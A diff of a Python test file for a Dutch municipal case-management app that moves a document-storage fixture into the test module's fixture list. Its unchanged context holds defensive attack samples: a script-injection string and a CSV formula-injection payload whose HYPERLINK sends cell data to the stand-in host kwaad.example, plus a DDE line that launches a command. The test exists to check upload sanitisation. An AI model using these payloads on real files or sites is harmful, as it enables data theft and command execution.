@@ -20,10 +20,9 @@ from mijnzaken.zaken.models import Zaak
 from mijnzaken.zaken.uploads import eigenaar_bij_zaak
 from tests.fabrieken import burger, dien_in, gebruiker, medewerker, partij, upload
 from tests.mijnzaken.documenten.nagebootste_clamd import Clamd, clamd
-from tests.mijnzaken.documenten.proefbestanden import in_map
 from tests.oidc.hulp import als
 
-pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("gemeente", "op_maandag")]
+pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("opslagmap", "gemeente", "op_maandag")]
 SCRIPT = "<script>alert('x')</script>"
 AANVALLEN = [
     SCRIPT,
@@ -34,12 +33,6 @@ AANVALLEN = [
 ]
 FORMULE = b'naam;bedrag\r\n=HYPERLINK("https://kwaad.example/?x="&A1,"klik");12\r\n@SUM(1+1)*cmd|\' /C calc\'!A0;3\r\n'
 BEHANDELAAR = "vera"  # of the parking permits
-
-
-@pytest.fixture(autouse=True)
-def opslagmap(settings: Any, tmp_path: Path) -> Iterator[Path]:
-    with in_map(settings, tmp_path / "documenten") as map_:
-        yield map_
 
 
 @pytest.fixture
